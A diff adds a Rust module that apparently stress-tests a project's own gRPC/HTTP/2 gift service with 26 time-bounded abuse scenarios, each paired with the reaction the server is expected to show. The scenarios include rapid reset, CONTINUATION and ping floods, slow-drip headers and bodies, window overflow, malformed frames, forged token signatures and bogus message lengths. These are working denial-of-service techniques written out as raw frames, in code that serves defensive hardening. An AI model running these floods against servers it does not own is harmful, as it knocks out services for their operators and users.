@@ -1,0 +1,482 @@
+//! What people do who mean harm, one thing each. Every one is bounded: so many connections, so many frames a second, and it stops by itself.
+use super::raw::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NO_FLAGS, PING, PRIORITY, PUSH_PROMISE, RST_STREAM, Raw, SETTINGS, WINDOW_UPDATE,
+    block, call, frame, message,
+};
+use crate::Fault;
+use futures::future::BoxFuture;
+use std::{
+    net::SocketAddr,
+    sync::Arc,
+    time::{Duration, Instant},
+};
+
+/// Somebody's connections at once, where each says much; and where each says nothing.
+const BUSY: usize = 4;
+const IDLE: usize = 200;
+/// Frames or calls in one turn of a connection, and the rest after it.
+const TURN: u32 = 50;
+const REST: Duration = Duration::from_millis(20);
+const SOON: Duration = Duration::from_millis(2);
+
+const SEND_GIFT: &str = "/largesse.gift.v1.GiftService/SendGift";
+const SEND_GIFTS: &str = "/largesse.gift.v1.GiftService/SendGifts";
+const LIST_GIFTS: &str = "/largesse.gift.v1.GiftService/ListGifts";
+const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
+
+/// Whom to harm, and for how long.
+#[derive(Clone)]
+pub struct HarmTarget {
+    /// The gRPC listener.
+    pub address: SocketAddr,
+    /// A viewer's token, as good as any.
+    pub token: Arc<str>,
+    /// When to stop.
+    pub until: Instant,
+}
+
+/// What somebody saw.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct HarmSeen {
+    /// Things done.
+    pub done: u64,
+    /// Connections that were ended by the other side.
+    pub ended: u64,
+    /// Streams that were reset by the other side.
+    pub resets: u64,
+    /// Calls that got an answer.
+    pub answers: u64,
+}
+
+impl HarmSeen {
+    fn of(raw: &Raw, done: u64) -> Self {
+        Self { done, ended: u64::from(raw.over), resets: raw.resets, answers: raw.answers }
+    }
+
+    /// Both together.
+    #[must_use]
+    pub fn and(self, other: Self) -> Self {
+        Self {
+            done: self.done + other.done,
+            ended: self.ended + other.ended,
+            resets: self.resets + other.resets,
+            answers: self.answers + other.answers,
+        }
+    }
+}
+
+/// How the other side must take it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Expected {
+    /// It ends the connection.
+    Ended,
+    /// It answers or resets each call, and the connection goes on.
+    Answered,
+    /// It puts up with it.
+    Borne,
+}
+
+/// One way to do harm.
+#[derive(Clone, Copy)]
+pub struct HarmScenario {
+    /// Its key in the report.
+    pub name: &'static str,
+    /// How it must be taken.
+    pub expected: Expected,
+    run: fn(HarmTarget) -> BoxFuture<'static, Result<HarmSeen, Fault>>,
+}
+
+impl HarmScenario {
+    /// Does it until the target's time is over.
+    pub async fn run(&self, target: HarmTarget) -> Result<HarmSeen, Fault> {
+        (self.run)(target).await
+    }
+}
+
+macro_rules! scenario {
+    ($name:ident, $expected:ident) => {
+        HarmScenario { name: stringify!($name), expected: Expected::$expected, run: |target| Box::pin($name(target)) }
+    };
+}
+
+/// All of them.
+pub const SCENARIOS: [HarmScenario; 26] = [
+    scenario!(silent_connections, Ended),
+    scenario!(half_a_preface, Ended),
+    scenario!(not_http2, Ended),
+    scenario!(dripping_http1_headers, Ended),
+    scenario!(connections_that_come_and_go, Borne),
+    scenario!(settings_flood, Borne),
+    scenario!(ping_flood, Borne),
+    scenario!(priority_flood, Borne),
+    scenario!(rapid_reset, Ended),
+    scenario!(continuation_flood, Ended),
+    scenario!(headers_too_large, Answered),
+    scenario!(streams_without_end, Answered),
+    scenario!(more_streams_than_allowed, Answered),
+    scenario!(empty_data_flood, Borne),
+    scenario!(window_overflow, Ended),
+    scenario!(frames_where_they_may_not_be, Ended),
+    scenario!(frames_too_long, Ended),
+    scenario!(answers_that_are_never_read, Borne),
+    scenario!(a_stream_that_is_never_read, Borne),
+    scenario!(forged_tokens, Answered),
+    scenario!(message_longer_than_said, Answered),
+    scenario!(message_too_long, Answered),
+    scenario!(dripping_body, Answered),
+    scenario!(strange_deadlines_and_encodings, Answered),
+    scenario!(reflection_flood, Borne),
+    scenario!(a_viewer_without_measure, Answered),
+];
+
+/// The same on so many connections at once, again and again until the time is over.
+async fn crowd<F>(target: HarmTarget, connections: usize, one: fn(HarmTarget) -> F) -> Result<HarmSeen, Fault>
+where
+    F: Future<Output = Result<HarmSeen, Fault>> + Send + 'static,
+{
+    let mut all = tokio::task::JoinSet::new();
+    for _ in 0..connections {
+        let target = target.clone();
+        all.spawn(async move {
+            let mut seen = HarmSeen::default();
+            while Instant::now() < target.until {
+                // A connection that is not taken any more is an answer too.
+                match one(target.clone()).await {
+                    Ok(more) => seen = seen.and(more),
+                    Err(_) => seen.ended += 1,
+                }
+                tokio::time::sleep(REST).await;
+            }
+            seen
+        });
+    }
+    let mut seen = HarmSeen::default();
+    while let Some(more) = all.join_next().await {
+        seen = seen.and(more?);
+    }
+    Ok(seen)
+}
+
+/// Sends what `make` makes, by number, until the connection or the time is over.
+async fn flood(target: HarmTarget, settings: &'static [(u16, u32)], make: fn(u32, &str) -> Vec<u8>) -> Result<HarmSeen, Fault> {
+    let mut raw = Raw::greeted(target.address, settings).await?;
+    let mut done = 0;
+    while !raw.over && Instant::now() < target.until {
+        let mut bytes = Vec::new();
+        for _ in 0..TURN {
+            bytes.extend(make(done, &target.token));
+            done += 1;
+        }
+        raw.write(&bytes).await?;
+        raw.listen(SOON).await;
+        tokio::time::sleep(REST).await;
+    }
+    Ok(HarmSeen::of(&raw, u64::from(done)))
+}
+
+/// Opens and holds.
+async fn hold(target: HarmTarget, first: &'static [u8]) -> Result<HarmSeen, Fault> {
+    let mut raw = Raw::silent(target.address).await?;
+    raw.write(first).await?;
+    while !raw.over && Instant::now() < target.until {
+        raw.listen(Duration::from_millis(100)).await;
+    }
+    Ok(HarmSeen::of(&raw, 1))
+}
+
+/// Client streams have odd numbers.
+const fn odd(number: u32) -> u32 {
+    number * 2 + 1
+}
+
+async fn silent_connections(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    crowd(target, IDLE, |target| hold(target, b"")).await
+}
+
+async fn half_a_preface(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    crowd(target, IDLE, |target| hold(target, b"PRI * HTTP/2.0\r\n")).await
+}
+
+async fn not_http2(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    crowd(target, BUSY, |target| hold(target, &[0x16, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])).await
+}
+
+async fn dripping_http1_headers(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        let mut raw = Raw::silent(target.address).await?;
+        raw.write(b"GET / HTTP/1.1\r\nhost: localhost\r\n").await?;
+        let mut done = 0;
+        while !raw.over && Instant::now() < target.until {
+            raw.write(b"x: y\r\n").await?;
+            raw.listen(SOON).await;
+            tokio::time::sleep(REST).await;
+            done += 1;
+        }
+        Ok(HarmSeen::of(&raw, done))
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn connections_that_come_and_go(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        let mut done = 0;
+        while Instant::now() < target.until && done < u64::from(TURN) {
+            Raw::greeted(target.address, &[]).await?;
+            done += 1;
+        }
+        Ok(HarmSeen { done, ..HarmSeen::default() })
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn settings_flood(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    crowd(target, BUSY, |target| flood(target, &[], |_, _| frame(SETTINGS, NO_FLAGS, 0, &[0, 4, 0, 0, 255, 255]))).await
+}
+
+async fn ping_flood(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    crowd(target, BUSY, |target| flood(target, &[], |_, _| frame(PING, NO_FLAGS, 0, &[7; 8]))).await
+}
+
+async fn priority_flood(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    crowd(target, BUSY, |target| flood(target, &[], |number, _| frame(PRIORITY, NO_FLAGS, odd(number), &[0, 0, 0, 0, 16]))).await
+}
+
+async fn rapid_reset(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| {
+            let mut bytes = frame(HEADERS, END_HEADERS, odd(number), &call(SEND_GIFT, token, &[]));
+            bytes.extend(frame(RST_STREAM, NO_FLAGS, odd(number), &[0, 0, 0, 8]));
+            bytes
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn continuation_flood(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| match number {
+            0 => frame(HEADERS, NO_FLAGS, 1, &call(SEND_GIFT, token, &[])),
+            _ => frame(CONTINUATION, NO_FLAGS, 1, &block(&[("x-more", "of the same, again and again")])),
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn headers_too_large(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| {
+            let large = "x".repeat(700);
+            let fields: Vec<(String, &str)> = (0..30).map(|at| (format!("x-{at}"), large.as_str())).collect();
+            let more: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (name.as_str(), *value)).collect();
+            let block = call(SEND_GIFT, token, &more);
+            let (first, rest) = block.split_at(16_000);
+            let mut bytes = frame(HEADERS, END_STREAM, odd(number), first);
+            bytes.extend(frame(CONTINUATION, END_HEADERS, odd(number), rest));
+            bytes
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn streams_without_end(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        // Begins calls with bodies that never come.
+        flood(target, &[], |number, token| match number {
+            0..1_000 => frame(HEADERS, END_HEADERS, odd(number), &call(SEND_GIFT, token, &[("grpc-timeout", "500m")])),
+            _ => frame(PING, NO_FLAGS, 0, &[1; 8]),
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn more_streams_than_allowed(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| frame(HEADERS, END_HEADERS, odd(number), &call(SEND_GIFTS, token, &[]))).await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn empty_data_flood(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| match number {
+            0 => frame(HEADERS, END_HEADERS, 1, &call(SEND_GIFTS, token, &[])),
+            _ => frame(DATA, NO_FLAGS, 1, &[]),
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn window_overflow(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    crowd(target, BUSY, |target| flood(target, &[], |_, _| frame(WINDOW_UPDATE, NO_FLAGS, 0, &[0x7f, 255, 255, 255]))).await
+}
+
+async fn frames_where_they_may_not_be(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, _| match number % 3 {
+            0 => frame(DATA, NO_FLAGS, 0, b"data of no stream"),
+            1 => frame(PUSH_PROMISE, END_HEADERS, 1, &[0, 0, 0, 2]),
+            _ => frame(SETTINGS, NO_FLAGS, 3, &[0, 4, 0, 0, 0]),
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn frames_too_long(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        let mut raw = Raw::greeted(target.address, &[]).await?;
+        raw.frame(HEADERS, END_HEADERS, 1, &call(SEND_GIFT, &target.token, &[])).await?;
+        // A megabyte in one frame, which was never agreed on.
+        raw.frame(DATA, NO_FLAGS, 1, &vec![0; 1 << 20]).await?;
+        while !raw.over && Instant::now() < target.until {
+            raw.listen(Duration::from_millis(100)).await;
+        }
+        Ok(HarmSeen::of(&raw, 1))
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn answers_that_are_never_read(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        // A window of nothing: the answers have to stay where they are.
+        let mut raw = Raw::greeted(target.address, &[(4, 0)]).await?;
+        let mut done = 0;
+        while !raw.over && Instant::now() < target.until && done < 500 {
+            raw.frame(HEADERS, END_HEADERS, odd(done), &call(LIST_GIFTS, &target.token, &[])).await?;
+            raw.frame(DATA, END_STREAM, odd(done), &message(&[])).await?;
+            done += 1;
+        }
+        while !raw.over && Instant::now() < target.until {
+            raw.listen(Duration::from_millis(100)).await;
+        }
+        Ok(HarmSeen::of(&raw, u64::from(done)))
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn a_stream_that_is_never_read(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        // Each item is malformed, so each gets an answer; none is ever taken.
+        let mut raw = Raw::greeted(target.address, &[(4, 0)]).await?;
+        raw.frame(HEADERS, END_HEADERS, 1, &call(SEND_GIFTS, &target.token, &[])).await?;
+        let mut done = 0;
+        while !raw.over && Instant::now() < target.until {
+            raw.frame(DATA, NO_FLAGS, 1, &message(&[]).repeat(20)).await?;
+            raw.listen(SOON).await;
+            tokio::time::sleep(REST).await;
+            done += 20;
+        }
+        Ok(HarmSeen::of(&raw, done))
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn forged_tokens(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| {
+            // Another signature each time, or it would be remembered.
+            let (body, _) = token.rsplit_once('.').unwrap_or((token, ""));
+            let forged = format!("{body}.{}", format!("{number:08}").repeat(8));
+            let mut bytes = frame(HEADERS, END_HEADERS, odd(number), &call(SEND_GIFT, &forged, &[]));
+            bytes.extend(frame(DATA, END_STREAM, odd(number), &message(&[])));
+            bytes
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn message_longer_than_said(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| {
+            let mut bytes = frame(HEADERS, END_HEADERS, odd(number), &call(SEND_GIFT, token, &[]));
+            // Four gigabytes are announced and five bytes come.
+            bytes.extend(frame(DATA, END_STREAM, odd(number), &[0, 255, 255, 255, 255, 1, 2, 3, 4, 5]));
+            bytes
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn message_too_long(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        let mut raw = Raw::greeted(target.address, &[]).await?;
+        raw.frame(HEADERS, END_HEADERS, 1, &call(SEND_GIFT, &target.token, &[])).await?;
+        raw.frame(DATA, NO_FLAGS, 1, &[0, 1, 128, 0, 0]).await?;
+        let mut done = 0;
+        while !raw.over && raw.answers == 0 && raw.resets == 0 && Instant::now() < target.until && done < 2_000 {
+            raw.frame(DATA, NO_FLAGS, 1, &[0; 16_000]).await?;
+            raw.listen(SOON).await;
+            done += 1;
+        }
+        Ok(HarmSeen::of(&raw, done))
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn dripping_body(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        let mut raw = Raw::greeted(target.address, &[]).await?;
+        raw.frame(HEADERS, END_HEADERS, 1, &call(SEND_GIFT, &target.token, &[("grpc-timeout", "300m")])).await?;
+        let mut done = 0;
+        while !raw.over && raw.answers == 0 && Instant::now() < target.until {
+            raw.frame(DATA, NO_FLAGS, 1, &[0]).await?;
+            raw.listen(Duration::from_millis(50)).await;
+            done += 1;
+        }
+        Ok(HarmSeen::of(&raw, done))
+    }
+    crowd(target, BUSY * 4, one).await
+}
+
+async fn strange_deadlines_and_encodings(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| {
+            const STRANGE: [(&str, &str); 6] = [
+                ("grpc-timeout", "0n"),
+                ("grpc-timeout", "99999999H"),
+                ("grpc-timeout", "-1S"),
+                ("grpc-encoding", "bomb"),
+                ("grpc-timeout", "1e9S"),
+                ("content-encoding", "gzip"),
+            ];
+            let mut bytes = frame(HEADERS, END_HEADERS, odd(number), &call(SEND_GIFT, token, &[STRANGE[number as usize % STRANGE.len()]]));
+            // Said to be compressed, and is not.
+            bytes.extend(frame(DATA, END_STREAM, odd(number), &[1, 0, 0, 0, 2, 8, 1]));
+            bytes
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn reflection_flood(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, _| {
+            let mut bytes = frame(HEADERS, END_HEADERS, odd(number), &call(REFLECTION, "", &[]));
+            // list_services = "*"
+            bytes.extend(frame(DATA, END_STREAM, odd(number), &message(&[0x3a, 1, b'*'])));
+            bytes
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
+
+async fn a_viewer_without_measure(target: HarmTarget) -> Result<HarmSeen, Fault> {
+    async fn one(target: HarmTarget) -> Result<HarmSeen, Fault> {
+        flood(target, &[], |number, token| {
+            let mut bytes = frame(HEADERS, END_HEADERS, odd(number), &call(LIST_GIFTS, token, &[]));
+            bytes.extend(frame(DATA, END_STREAM, odd(number), &message(&[])));
+            bytes
+        })
+        .await
+    }
+    crowd(target, BUSY, one).await
+}
